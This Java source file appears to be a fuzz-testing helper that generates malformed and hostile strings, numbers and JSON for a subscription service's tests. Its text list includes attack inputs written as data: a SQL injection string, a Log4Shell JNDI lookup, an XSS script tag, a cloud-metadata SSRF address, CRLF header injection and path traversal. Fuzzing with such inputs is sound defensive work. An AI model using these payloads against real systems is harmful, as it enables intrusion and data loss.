package dev.waybill.subscription.fuzz;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.SplittableRandom;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Text that has done harm to one program or another, and ways of writing it. */
final class HostileText {
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\0",
            "a\0b",
            "\uD800",
            "\uDC00\uD800",
            "x\uD83D",
            "\uD83D\uDE00",
            "\uD83D\uDE00".repeat(255),
            "\uD83D\uDE00".repeat(256),
            "x".repeat(99) + "\uD83D\uDE00\uD83D\uDE00",
            "x".repeat(10_000),
            "%",
            "_",
            "%%_%",
            "%00",
            "%zz",
            "a\r\nX-Injected: 1",
            "\n",
            "\t",
            "\u007F",
            "\u0085",
            "\u00A0",
            "\u200B",
            "\u2028",
            "\u202Eabc",
            "\uFEFF",
            "\uFFFE",
            "\uDBFF\uDFFF",
            "e\u0301",
            "'; drop table webhook; --",
            "\\",
            "\"",
            "../..",
            "..",
            "null",
            "true",
            "NaN",
            "1e400000",
            "${jndi:ldap://example.com/x}",
            "<script>alert(1)</script>",
            "http://169.254.169.254/",
            "https://example.com/\r\nX: y",
            "https://user:password@example.com",
            "2027-02-30T00:00:00",
            "9999-12-31T23:59:59-18:00",
            "+999999999-01-01T00:00:00Z",
            "full",
            "campaign.created");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-1",
            "1",
            "-0.0",
            "1e400000",
            "-1e-400000",
            "9223372036854775808",
            "18446744073709551616",
            "0.1",
            "9".repeat(100),
            "9".repeat(101),
            "9".repeat(5_000),
            "1." + "0".repeat(5_000));

    private static final List<String> OTHERS = List.of(
            "null", "true", "false", "{}", "[]", "[null]", "[[]]", "{\"a\":{}}", "{\"a\":1,\"a\":2}", "NaN", "");

    private final SplittableRandom random;

    HostileText(SplittableRandom random) {
        this.random = random;
    }

    String text() {
        return pick(TEXTS);
    }

    /** Of a query parameter or a path, where all is text. */
    String word() {
        return random.nextInt(3) == 0 ? pick(NUMBERS) : text();
    }

    /** A value, which need not be JSON at all. */
    String json() {
        return switch (random.nextInt(6)) {
            case 0 -> pick(NUMBERS);
            case 1 -> pick(OTHERS);
            case 2 -> nested(1 + random.nextInt(30));
            case 3 -> "[" + quoted(text()) + "," + quoted(text()) + "]";
            default -> quoted(text());
        };
    }

    /** Arrays or objects in each other. */
    String nested(int depth) {
        return random.nextBoolean()
                ? "[".repeat(depth) + "]".repeat(depth)
                : "{\"a\":".repeat(depth) + "0" + "}".repeat(depth);
    }

    /** A JSON string; what is text is written as UTF-8, a character for each byte, or escaped. */
    String quoted(String text) {
        boolean escaped = random.nextBoolean() || !text.equals(fromBytes(text.getBytes(StandardCharsets.UTF_8)));
        return text.chars()
                .mapToObj(unit -> unit < ' ' || unit == '"' || unit == '\\' || (escaped && unit > '~')
                        ? "\\u%04x".formatted(unit)
                        : String.valueOf((char) unit))
                .collect(Collectors.collectingAndThen(
                        Collectors.joining("", "\"", "\""),
                        json -> new String(json.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1)));
    }

    /** Any bytes, a character for each. */
    String bytes() {
        return IntStream.range(0, random.nextInt(40))
                .mapToObj(i -> String.valueOf((char) random.nextInt(256)))
                .collect(Collectors.joining());
    }

    <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    static String inUri(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String fromBytes(byte[] utf8) {
        return new String(utf8, StandardCharsets.UTF_8);
    }
}
